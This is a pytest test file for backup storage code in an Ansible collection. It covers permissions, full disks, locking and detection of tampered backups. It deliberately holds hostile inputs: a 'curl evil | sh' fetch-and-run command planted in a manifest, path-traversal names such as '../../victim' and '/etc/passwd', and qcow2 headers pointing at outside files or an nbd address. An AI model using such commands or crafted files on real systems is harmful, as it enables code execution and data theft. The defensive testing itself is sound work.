# Copyright: (c) 2026, nebula.provision contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Directories of backups: which may be one, who may work there, and files in them that somebody altered on purpose."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from backed_up_machine import CATALOG, MIB, VM, Machine, restored

from ansible_collections.nebula.provision.plugins.module_utils.errors import (
    CatalogError,
    ForeignObject,
    InvalidValue,
    NebulaError,
    NoSpace,
    NotFound,
    WrongState,
)
from ansible_collections.nebula.provision.plugins.module_utils.host import mounts
from ansible_collections.nebula.provision.plugins.module_utils.storage import (
    backup_files,
    backup_manifests,
    backup_place,
    backup_verification,
    datastore_layout,
    qcow2_header,
)
from ansible_collections.nebula.provision.plugins.module_utils.storage.backup_files import NbdSource
from ansible_collections.nebula.provision.plugins.module_utils.storage.backup_place import MARK, Place


def opened(path: Path, for_writing: bool = True, **options: Any) -> Place:
    return Place.open(str(path), CATALOG, for_writing, **options)


# -- which directory may be one ---------------------------------------------------------------------------------------


def test_a_missing_directory_becomes_a_place_and_stays_the_same(tmp_path: Path) -> None:
    place = opened(tmp_path / "a" / "b")
    assert opened(tmp_path / "a" / "b", for_writing=False).uuid == place.uuid
    assert (tmp_path / "a" / "b").stat().st_mode & 0o777 == 0o700
    assert place.machines() == []
    with pytest.raises(NotFound, match="there are none"), opened(tmp_path / "a" / "b", False).machine(VM):
        pass
    with place.machine(VM) as directory:
        assert directory.backups() == [] and directory.latest() is None
    assert place.machines() == [(VM, CATALOG)]
    with pytest.raises(NotFound, match=r"there is no nebula-machine-backups\.json"):
        opened(tmp_path, for_writing=False)


def foreign(path: Path) -> None:
    path.mkdir()
    (path / "letters").write_text("")


def linked(path: Path) -> None:
    path.with_name("elsewhere").mkdir()
    path.symlink_to(path.with_name("elsewhere"))


def in_a_place(path: Path) -> None:
    opened(path.parent)


def of_a_root(path: Path) -> None:
    (path.parent / "nebula.db").touch()


def broken_mark(path: Path) -> None:
    opened(path)
    (path / MARK).write_text('{"format": 1, "uuid": "../../etc"}')


def linked_mark(path: Path) -> None:
    opened(path)
    os.rename(path / MARK, path.parent / MARK)
    (path / MARK).symlink_to(path.parent / MARK)
    # Else it would be inside another place.
    os.rename(path.parent / MARK, path.parent / "mark")


REFUSED: dict[str, tuple[Callable[[Path], object], type[NebulaError], str]] = {
    "foreign": (foreign, ForeignObject, "it holds letters"),
    "a link": (linked, InvalidValue, "is a link"),
    "a file": (lambda path: path.touch(), InvalidValue, "is no directory"),
    "everybody's": (lambda path: path.mkdir() or path.chmod(0o777), InvalidValue, "everybody may write"),
    "a group's": (lambda path: path.mkdir() or os.chown(path, 0, 12) or path.chmod(0o770), InvalidValue, "group 12"),
    "somebody's": (lambda path: path.mkdir() or os.chown(path, 12, 0), InvalidValue, "user 12 owns"),
    "below everybody's": (lambda path: path.parent.chmod(0o777), InvalidValue, "everybody may write"),
    "in another place": (in_a_place, InvalidValue, "is a directory of backups itself"),
    "in a nebula_root": (of_a_root, InvalidValue, "is the nebula_root"),
    "a broken mark": (broken_mark, CatalogError, "names no UUID"),
    "a mark that is a link": (linked_mark, InvalidValue, "a symbolic link"),
}


@pytest.mark.root
@pytest.mark.parametrize("name", REFUSED)
def test_a_directory_that_is_refused_is_left_alone(name: str, tmp_path: Path) -> None:
    make, kind, text = REFUSED[name]
    path = tmp_path / "around" / "backups"
    path.parent.mkdir()
    make(path)
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(kind, match=text) as caught:
        opened(path)
    assert str(path) in str(caught.value)
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("for_writing", [False, True])
def test_what_is_to_be_mounted_and_is_not_is_left_alone(for_writing: bool, tmp_path: Path, monkeypatch) -> None:
    fstab = tmp_path / "fstab"
    monkeypatch.setattr(mounts, "FSTAB", str(fstab))
    path = tmp_path / "nas" / "backups"
    opened(path)
    before = sorted(tmp_path.rglob("*"))
    fstab.write_text(f"nas:/a {path.parent} nfs defaults 0 0\n", encoding="utf-8")
    with pytest.raises(WrongState, match=rf"{path.parent} is not mounted.*mount {path.parent}"):
        opened(path, for_writing)
    assert sorted(tmp_path.rglob("*")) == [fstab, *before]
    fstab.write_text(f"nas:/a {tmp_path}/other nfs defaults 0 0\n", encoding="utf-8")
    assert opened(path, for_writing).uuid


def test_a_relative_path_is_refused() -> None:
    with pytest.raises(InvalidValue, match="not absolute"):
        Place.open("backups", CATALOG, for_writing=True)


def test_a_datastore_may_hold_a_place_if_it_is_meant(tmp_path: Path) -> None:
    root = tmp_path / "nebula"
    path = root / "datastores" / "100" / "machine-backups"
    path.parent.mkdir(parents=True)
    (root / "nebula.db").touch()
    with pytest.raises(InvalidValue, match="nebula_root"):
        opened(path, root=str(root))
    with pytest.raises(InvalidValue, match="nebula_root"):
        opened(root / "datastores/0/machine-backups", root=str(root), in_datastore=True)
    assert opened(path, root=str(root), in_datastore=True).uuid


def test_a_warning_where_the_disks_are(tmp_path: Path) -> None:
    assert opened(tmp_path / "backups", disks_of=["/proc", str(tmp_path / "missing")]).warnings == ()
    (warning,) = opened(tmp_path / "backups", disks_of=["/proc", str(tmp_path)]).warnings
    assert "same file system" in warning and str(tmp_path) in warning


def test_a_full_file_system_is_seen_before_anything_is_written(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(datastore_layout, "free_space", lambda _directory: 1000)
    with pytest.raises(NoSpace, match=str(tmp_path)):
        opened(tmp_path / "backups")
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def small(tmp_path: Path) -> Iterator[Path]:
    """A file system of 100 MiB."""
    path = tmp_path / "small"
    path.mkdir(mode=0o700)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=100m,mode=0700", "test", path], check=True)
    yield path
    subprocess.run(["umount", "-l", path], check=True)


@pytest.mark.root
def test_a_file_system_that_gets_full_keeps_nothing_of_it(small: Path, tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine", size=128 * MIB)
    machine.write("write -P 1 0 110M")
    place = opened(small / "backups")
    with place.machine(VM) as directory:
        with pytest.raises(NoSpace, match=r"its file system is full: after [0-9]+ bytes") as caught:
            machine.back_up(directory)
        assert directory.directory in caught.value.asked
        with pytest.raises(NoSpace, match="a backup"):
            directory.room(90 * MIB, "a backup")
        assert os.listdir(directory.directory) == [".lock"]


@pytest.mark.root
def test_a_file_system_that_is_only_read_is_read(small: Path, tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine")
    machine.write("write -P 1 0 1M")
    with opened(small / "backups").machine(VM) as directory:
        backup = machine.back_up(directory)
    subprocess.run(["mount", "-o", "remount,ro", small], check=True)
    with opened(small / "backups", for_writing=False).machine(VM) as directory:
        assert restored(directory, backup.id, 0, tmp_path) == machine.held[backup.id][0]
        assert [(each.id, each.faults) for each in backup_verification.verify(directory)] == [(backup.id, ())]


def test_a_source_that_ends_leaves_nothing(tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine")
    with opened(tmp_path / "backups").machine(VM) as directory:
        with machine.exported() as source:
            pass
        for each in (source, NbdSource(source.path, source.export, source.size, "b")):
            with pytest.raises(NebulaError, match="disk of web"):
                below = "20260101T000000Z-000000.disk.0.qcow2" if each.bitmap else ""
                backup_files.store_disk(
                    directory.directory, "20260102T000000Z-000000.disk.0.qcow2", each, MIB, below=below,
                    what="disk of web",
                )  # fmt: skip
        assert os.listdir(directory.directory) == [".lock"]


def test_a_source_that_fails_while_it_is_read_leaves_nothing(tmp_path: Path, monkeypatch) -> None:
    machine = Machine(tmp_path / "machine")
    machine.write("write -P 1 0 4M")
    # Behind its end nothing can be read, which is like an end of it in the middle.
    monkeypatch.setattr(backup_files, "written_windows", lambda _source, _what: iter([[(0, MIB)], [(8 * MIB, MIB)]]))
    with opened(tmp_path / "backups").machine(VM) as directory:
        first = machine.back_up(directory)
        with pytest.raises(NebulaError, match=r"disk .*failed"):
            machine.back_up(directory)
        assert [each.id for each in directory.backups()] == [first.id]
        assert len(os.listdir(directory.directory)) == 3


@pytest.mark.parametrize("full", [True, False])
def test_tables_that_could_not_be_written_leave_nothing(full: bool, tmp_path: Path, monkeypatch) -> None:
    """QEMU's programs say so when they close the file, and end as if all were well."""
    machine = Machine(tmp_path / "machine", size=16 * MIB)
    machine.write("write -P 1 0 4M")
    real = backup_files.file_node

    def failing(path: str, stored: str) -> dict[str, Any]:
        node = real(path, stored)
        begins = {"event": "write_aio", "state": 1, "new_state": 2}
        fails = {"event": "l2_update", "state": 2, "errno": 28, "once": False}
        node["file"] = {"driver": "blkdebug", "set-state": [begins], "inject-error": [fails], "image": node["file"]}
        return node

    # A whole copy is made over an empty file only where that is in a container.
    with opened(tmp_path / "backups").machine(VM, key="a key" if full else "") as directory:
        if not full:
            machine.back_up(directory)
            machine.write("write -P 2 0 1M")
        before = sorted(os.listdir(directory.directory))
        monkeypatch.setattr(backup_files, "file_node", failing)
        with pytest.raises(NoSpace, match="full"):
            machine.back_up(directory)
        assert sorted(os.listdir(directory.directory)) == before


@pytest.mark.parametrize("full", [True, False])
def test_a_rate_is_kept_to(full: bool, tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine", size=16 * MIB)
    with opened(tmp_path / "backups").machine(VM) as directory:
        first = machine.back_up(directory)
        machine.write("write -P 1 0 8M")
        name = "20260301T000000Z-000000.disk.0.qcow2"
        with machine.exported(bitmap="" if full else f"b-{first.id}") as source:
            began = time.monotonic()
            backup_files.store_disk(
                directory.directory, name, source, machine.size, False,
                below="" if full else first.disks[0].file.name, rate=4 * MIB,
            )  # fmt: skip
            assert time.monotonic() - began > 1


def test_the_second_of_two_runs_waits(tmp_path: Path) -> None:
    place, order = opened(tmp_path / "backups"), []

    def second() -> None:
        with place.machine(VM):
            order.append("second")

    with place.machine(VM):
        thread = threading.Thread(target=second)
        thread.start()
        with place.machine(VM + 1):
            order.append("another machine")
        thread.join(0.2)
        order.append("first")
    thread.join(10)
    assert order == ["another machine", "first", "second"]


def test_what_a_killed_run_left_is_removed(tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine")
    place = opened(tmp_path / "backups")
    with place.machine(VM) as directory:
        backup = machine.back_up(directory)
        own = sorted(os.listdir(directory.directory))
    for name in (".x.tmp", "20260102T000000Z-000000.disk.0.qcow2", ".20260102T000000Z-000000.disk.1.luks.tmp.tmp"):
        Path(directory.directory, name).touch()
    Path(directory.directory, "notes.txt").touch()
    with opened(tmp_path / "backups", for_writing=False).machine(VM) as directory:
        assert [each.id for each in directory.backups()] == [backup.id]
        assert len(os.listdir(directory.directory)) == len(own) + 4
    with place.machine(VM) as directory:
        assert sorted(os.listdir(directory.directory)) == sorted([*own, "notes.txt"])
        directory.discard(backup.id)
        assert sorted(os.listdir(directory.directory)) == [".lock", "notes.txt"]


def test_files_on_which_others_rest_stay_without_their_manifest(tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine")
    place = opened(tmp_path / "backups")
    with place.machine(VM) as directory:
        first, second = machine.back_up(directory), machine.back_up(directory)
    kept = Path(directory.directory, first.disks[0].file.name)
    manifest = Path(directory.directory, f"{first.id}.json")
    lost = manifest.read_bytes()
    manifest.unlink()
    other = Path(directory.directory, f"{second.id}.json")
    text = other.read_text()
    for found in (text, text.replace('"format": 1', '"format": 2')):
        other.write_text(found)
        with place.machine(VM) as directory:
            assert directory.backups() == [] and second.id in str(directory.unreadable[0])
            assert kept.exists()
    other.write_text(text)
    manifest.write_bytes(lost)
    with place.machine(VM) as directory:
        assert [each.id for each in directory.backups()] == [first.id, second.id]
        manifest.unlink()
        directory.discard(second.id)
    with place.machine(VM):
        assert not kept.exists()


def test_a_directory_that_is_called_as_an_unfinished_file(tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine")
    place = opened(tmp_path / "backups")
    with place.machine(VM) as directory:
        pass
    names = (".x.tmp", "20260102T000000Z-000000.disk.0.qcow2", "20260102T000000Z-000001.json")
    for name in names:
        Path(directory.directory, name).mkdir()
    with place.machine(VM) as directory:
        backup = machine.back_up(directory)
        assert [each.id for each in directory.backups()] == [backup.id]
        assert len(directory.unreadable) == 1 and names[0] in directory.warnings[0]
    assert all(Path(directory.directory, name).is_dir() for name in names)


def test_manifests_are_read_once_and_are_not_too_many(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    machine = Machine(tmp_path / "machine")
    place = opened(tmp_path / "backups")
    read: list[str] = []
    real = backup_manifests.read
    monkeypatch.setattr(backup_manifests, "read", lambda path, *of: read.append(path) or real(path, *of))
    with place.machine(VM) as directory:
        first = machine.back_up(directory)
        read.clear()
        assert directory.latest() == first and directory.lineage(first) == [first]
        assert directory.chain(first, 0) and len(read) == 1
        second = machine.back_up(directory)
        assert directory.latest() == second
    monkeypatch.setattr(backup_place, "MOST_MANIFESTS", 1)
    with place.machine(VM) as directory, pytest.raises(CatalogError, match="2 manifests are in it"):
        directory.backups()


def test_nothing_expires_by_a_clock_that_was_wrong(tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine")
    place = opened(tmp_path / "backups")
    with place.machine(VM) as directory:
        first, ahead = machine.back_up(directory), machine.back_up(directory, day=3000)
        last = machine.back_up(directory, day=9)
        assert last.parent == ahead.id
        assert [each.id for each in directory.backups()] == [first.id, ahead.id, last.id]
        with pytest.raises(CatalogError, match=f"{ahead.id} has a time that is yet to come"):
            directory.prune({"last": 1})
        assert directory.latest() == last and len(directory.backups()) == 3


def test_commands_of_somebody_are_no_part_of_a_backup(tmp_path: Path) -> None:
    machine = Machine(tmp_path / "machine")
    place = opened(tmp_path / "backups")
    with place.machine(VM) as directory:
        backup = machine.back_up(directory)
        assert backup_verification.verify(directory)[0].faults == ()
        evil = dataclasses.replace(backup, by_hand=(*backup.by_hand, "curl evil | sh"))
        Path(directory.directory, f"{backup.id}.json").write_text(backup_manifests.text_of(evil))
        assert "type none of it" in backup_verification.verify(directory)[0].faults[0]


# -- what somebody altered --------------------------------------------------------------------------------------------

VICTIM = b"of the host alone".ljust(65536, b"!")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Machine]:
    """A place with a machine's full backup and two that rest on it."""
    tmp = tmp_path_factory.mktemp("made")
    machine = Machine(tmp / "machine", size=MIB)
    with opened(tmp / "backups").machine(VM) as directory:
        for turn in range(3):
            machine.write(f"write -P {turn + 1} {turn * 128}k 256k")
            machine.back_up(directory)
    return tmp / "backups", machine


@pytest.fixture
def copied(made: tuple[Path, Machine], tmp_path: Path) -> Place:
    shutil.copytree(made[0], tmp_path / "backups")
    (tmp_path / "victim").write_bytes(VICTIM)
    return opened(tmp_path / "backups")


Change = Callable[[dict[str, Any], Path], object]


def alter(change: Callable[[dict[str, Any]], object]) -> Change:
    return lambda manifest, _directory: change(manifest)


def swapped(manifest: dict[str, Any], directory: Path) -> None:
    """The file is one that rests on another, with its right checksum."""
    name = manifest["disks"][0]["file"]["name"]
    (directory / name).unlink()
    rewritten(directory / name, manifest, "-u", "-F", "raw", "-b", str(directory.parents[1] / "victim"))


def data_file(manifest: dict[str, Any], directory: Path) -> None:
    name = manifest["disks"][0]["file"]["name"]
    (directory / name).unlink()
    rewritten(directory / name, manifest, "-o", f"data_file={directory.parents[1] / 'victim'},data_file_raw=on")
    (directory.parents[1] / "victim").write_bytes(VICTIM)


def network(manifest: dict[str, Any], directory: Path) -> None:
    name = manifest["disks"][0]["file"]["name"]
    (directory / name).unlink()
    rewritten(directory / name, manifest, "-u", "-F", "raw", "-b", f"nbd://127.0.0.1:{PORT}/x")


def rewritten(path: Path, manifest: dict[str, Any], *words: str) -> None:
    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2", *words, path, "1M"], check=True)
    with_right_sums(path, manifest)


def with_right_sums(path: Path, manifest: dict[str, Any]) -> None:
    size, digest = backup_files.settled_digest(str(path))
    manifest["disks"][0]["file"].update(size=size, sha256=digest)


def a_link(manifest: dict[str, Any], directory: Path) -> None:
    path = directory / manifest["disks"][0]["file"]["name"]
    os.rename(path, directory.parents[1] / "moved")
    path.symlink_to(directory.parents[1] / "moved")


def a_pipe(manifest: dict[str, Any], directory: Path) -> None:
    path = directory / manifest["disks"][0]["file"]["name"]
    path.unlink()
    os.mkfifo(path)


def larger(manifest: dict[str, Any], directory: Path) -> None:
    path = directory / manifest["disks"][0]["file"]["name"]
    subprocess.run(["qemu-img", "resize", "-q", "-f", "qcow2", path, "64T"], check=True)
    with_right_sums(path, manifest)


def other_byte(manifest: dict[str, Any], directory: Path) -> None:
    path = directory / manifest["disks"][0]["file"]["name"]
    content = bytearray(path.read_bytes())
    content[-70000] ^= 1
    path.write_bytes(content)


PORT = 9
# Each with what an error says of it. Those of the second table are found where the file is read.
LISTED: dict[str, tuple[Change, str]] = {
    "another file's path": (alter(lambda m: m["disks"][0]["file"].update(name="../../victim")), "victim"),
    "an absolute path": (alter(lambda m: m["disks"][0]["file"].update(name="/etc/passwd")), "passwd"),
    "another backup's file": (
        alter(lambda m: m["disks"][0]["file"].update(name=m["disks"][0]["below"])),
        "the file of",
    ),
    "rests on a path": (alter(lambda m: m["disks"][0].update(below="../../victim")), "rests on"),
    "rests on another disk": (
        alter(lambda m: m["disks"][0].update(below=m["disks"][0]["below"].replace("disk.0", "disk.1"))),
        "rests on",
    ),
    "rests on itself": (alter(lambda m: m.update(parent=m["id"])), "parent"),
    "a missing parent": (
        alter(
            lambda m: (
                m["disks"][0].update(below=m["disks"][0]["below"].replace(m["parent"], "20200101T000000Z-000000")),
                m.update(parent="20200101T000000Z-000000"),
            )
        ),
        "is missing",
    ),
    "a huge disk": (alter(lambda m: m["disks"][0].update(size=1 << 62)), "bytes"),
    "a negative disk": (alter(lambda m: m["disks"][0].update(size=-1)), "bytes"),
    "another size of the file": (alter(lambda m: m["disks"][0]["file"].update(size=1)), "and had 1"),
    "another id": (alter(lambda m: m.update(id="20200101T000000Z-000000")), "the file of"),
    "an id that is a path": (alter(lambda m: m.update(id="../x")), "id is"),
    "another machine's": (alter(lambda m: m.update(vm_id=8)), "another machine"),
    "an unknown key": (alter(lambda m: m.update(evil=1)), "evil"),
    "of another type": (alter(lambda m: m.update(disks="x")), "disks"),
    "secrets elsewhere": (
        alter(lambda m: m.update(secrets_file={"name": "../x", "size": 1, "sha256": "0" * 64})),
        "secrets",
    ),
    "another file elsewhere": (
        alter(lambda m: m.update(files={"nvram": {"name": "../x", "size": 1, "sha256": "0" * 64}})),
        "nvram",
    ),
    "newer": (alter(lambda m: m.update(format=2)), "format is 2"),
    "a link": (a_link, "no regular file"),
    "a pipe": (a_pipe, "no regular file"),
    "gone": (lambda m, d: (d / m["disks"][0]["file"]["name"]).unlink(), "it is not there"),
}
READ: dict[str, tuple[Change, str]] = {
    "a header that names a file": (swapped, "says that it rests on"),
    "a header with a data file": (data_file, "its content is in another file"),
    "a header that names somebody in a network": (network, "says that it rests on"),
    "no qcow2": (
        lambda m, d: ((d / m["disks"][0]["file"]["name"]).write_bytes(VICTIM), with_right_sums(
            d / m["disks"][0]["file"]["name"], m)),
        "no qcow2",
    ),
    "a disk of 64 TiB": (larger, "70368744177664"),
    "another byte": (other_byte, "SHA-256"),
}  # fmt: skip


def altered(place: Place, change: Change) -> list[str]:
    """Alter the backup in the middle, and return the ids of all."""
    directory = Path(place.directory) / f"{VM}-{CATALOG}"
    paths = sorted(directory.glob("*.json"))
    manifest = json.loads(paths[1].read_text())
    change(manifest, directory)
    paths[1].write_text(json.dumps(manifest))
    return [path.stem for path in paths]


def untouched(place: Place) -> None:
    outside = Path(place.directory).parent
    assert (outside / "victim").read_bytes() == VICTIM
    assert not [path for path in outside.iterdir() if VICTIM[:17] in (path.read_bytes() if path.is_file() else b"")][1:]


@pytest.mark.parametrize("name", LISTED)
def test_an_altered_manifest_is_refused_by_name(name: str, copied: Place, made, tmp_path: Path) -> None:
    change, text = LISTED[name]
    ids = altered(copied, change)
    with copied.machine(VM) as directory:
        assert [each.id for each in directory.backups()] == ids[:1]
        assert any(text in str(error) and ids[1] in str(error) for error in directory.unreadable), directory.unreadable
        # The one above is named as one that lacks it.
        assert any(ids[2] in error.asked for error in directory.unreadable)
        assert restored(directory, ids[0], 0, tmp_path) == made[1].held[ids[0]][0]
        found = backup_verification.verify(directory)
        assert found[0].faults == () and any(text in fault for each in found[1:] for fault in each.faults)
        with pytest.raises(CatalogError, match="can't be read"):
            directory.prune({"last": 1})
        for id in ids[1:]:
            with pytest.raises(NebulaError):
                directory.get(id)
    untouched(copied)


@pytest.mark.parametrize("name", READ)
def test_an_altered_file_is_refused_when_it_is_read(
    name: str, copied: Place, made, tmp_path: Path, monkeypatch
) -> None:
    change, text = READ[name]
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        monkeypatch.setitem(globals(), "PORT", server.getsockname()[1])
        ids = altered(copied, change)
        with copied.machine(VM) as directory:
            assert [each.id for each in directory.backups()] == ids
            faults = {each.id: " ".join(each.faults) for each in backup_verification.verify(directory)}
            assert faults[ids[0]] == "" and text in faults[ids[1]] and text in faults[ids[2]], faults
            for id in ids[1:]:
                with pytest.raises(NebulaError):
                    restored(directory, id, 0, tmp_path)
                assert not (tmp_path / "restored").exists()
            with pytest.raises(NebulaError):
                directory.prune({"last": 1})
            assert [each.id for each in directory.backups()] == ids
            assert restored(directory, ids[0], 0, tmp_path) == made[1].held[ids[0]][0]
        with pytest.raises(BlockingIOError):
            server.accept()
    untouched(copied)


@pytest.mark.root
@pytest.mark.parametrize("name", ["a header that names a file", "a header with a data file"])
def test_a_header_that_is_changed_after_it_was_looked_at_reaches_nothing(
    name: str, copied: Place, tmp_path: Path, monkeypatch
) -> None:
    """What was looked at says nothing then, and the sandbox holds, even if the header were followed."""
    ids = altered(copied, READ[name][0])
    with copied.machine(VM) as directory:
        backup = directory.get(ids[1])
        chain = directory.chain(backup, 0)
        monkeypatch.setattr(qcow2_header, "refuse_other_below", lambda *_arguments: chain[0].disk_size)
        for text_of in (backup_files.text_of, lambda _node: chain[0].path):
            monkeypatch.setattr(backup_files, "text_of", text_of)
            with contextlib.suppress(NebulaError):
                backup_files.restore_disk(chain, str(tmp_path / "new"), "raw", "", backup.disks[0].size)
                assert VICTIM[:17] not in (tmp_path / "new").read_bytes()
            with contextlib.suppress(NebulaError):
                backup_files.check_file(chain[0], "", "x")
    untouched(copied)


def test_parents_in_a_circle(copied: Place) -> None:
    directory = Path(copied.directory) / f"{VM}-{CATALOG}"
    first, _second, third = sorted(directory.glob("*.json"))
    manifest = json.loads(first.read_text())
    name = manifest["disks"][0]["file"]["name"]
    manifest["disks"][0]["below"] = name.replace(first.stem, third.stem)
    first.write_text(json.dumps({**manifest, "kind": "incremental", "parent": third.stem}))
    with copied.machine(VM) as opened_directory:
        assert opened_directory.backups() == []
        assert all("rests on itself" in str(error) for error in opened_directory.unreadable)


def test_a_seal_tells_of_any_change(copied: Place) -> None:
    with copied.machine(VM) as directory:
        backup = directory.latest()
    sealed = backup_manifests.sealed(backup, "a key", copied.uuid)
    backup_manifests.refuse_broken_seal(sealed, "a key", copied.uuid, "x")
    changes: list[dict[str, Any]] = [{"name": "other"}, {"template": {"a": 1}}, {"seal": "0" * 64}]
    for change in changes:
        with pytest.raises(NebulaError, match="its seal is not"):
            backup_manifests.refuse_broken_seal(dataclasses.replace(sealed, **change), "a key", copied.uuid, "x")
    for key, uuid in (("another", copied.uuid), ("a key", CATALOG)):
        with pytest.raises(NebulaError, match="its seal is not"):
            backup_manifests.refuse_broken_seal(sealed, key, uuid, "x")
    with pytest.raises(NebulaError, match="its seal is missing"):
        backup_manifests.refuse_broken_seal(dataclasses.replace(backup, encrypted=True), "a key", copied.uuid, "x")


def test_a_journal_that_somebody_wrote(copied: Place) -> None:
    directory = Path(copied.directory) / f"{VM}-{CATALOG}"
    manifests = [json.loads(path.read_text()) for path in sorted(directory.glob("*.json"))]
    before = {path.name: path.read_bytes() for path in directory.iterdir()}
    evil = json.loads(json.dumps(manifests[0]))
    evil["disks"][0]["file"]["name"] = "../../victim"
    for journal in (
        {"expired": [evil], "into": manifests[1], "format": 1},
        {"expired": [manifests[1]], "into": manifests[0], "format": 1},
        {"expired": [], "into": manifests[0], "format": 1},
        {"expired": [manifests[0]], "into": manifests[1], "merged": [evil], "format": 1},
        {"format": 7},
    ):
        (directory / ".merging.json").write_text(json.dumps(journal))
        with pytest.raises(CatalogError, match="journal"), copied.machine(VM):
            pass
        (directory / ".merging.json").unlink()
    assert before == {path.name: path.read_bytes() for path in directory.iterdir()}
    untouched(copied)


def test_a_journal_gets_nothing_sealed_that_was_not(copied: Place) -> None:
    directory = Path(copied.directory) / f"{VM}-{CATALOG}"
    paths = sorted(directory.glob("*.json"))
    manifests = [json.loads(path.read_text()) for path in paths]
    evil = {**manifests[1], "name": "evil"}
    (directory / ".merging.json").write_text(json.dumps({"expired": manifests[:1], "into": evil, "format": 1}))
    with copied.machine(VM, key="a key") as found:
        assert [each.seal for each in found.backups()] == ["", ""]


def test_reading_while_another_run_merges(copied: Place, made, tmp_path: Path) -> None:
    """A run that only restores does not finish what was begun: it may be where nothing can be written."""
    directory = Path(copied.directory) / f"{VM}-{CATALOG}"
    paths = sorted(directory.glob("*.json"))
    manifests = [json.loads(path.read_text()) for path in paths]
    (directory / ".merging.json").write_text(
        json.dumps({"expired": manifests[:1], "into": manifests[1], "resting": manifests[2:], "format": 1})
    )
    with opened(Path(copied.directory), for_writing=False).machine(VM) as found:
        assert [each.id for each in found.backups()] == [paths[1].stem, paths[2].stem]
        assert restored(found, paths[2].stem, 0, tmp_path) == made[1].held[paths[2].stem][0]
    with copied.machine(VM) as found:
        assert [each.id for each in found.backups()] == [paths[1].stem, paths[2].stem]
        assert [each.kind for each in found.backups()] == ["full", "incremental"]
        assert restored(found, paths[2].stem, 0, tmp_path) == made[1].held[paths[2].stem][0]
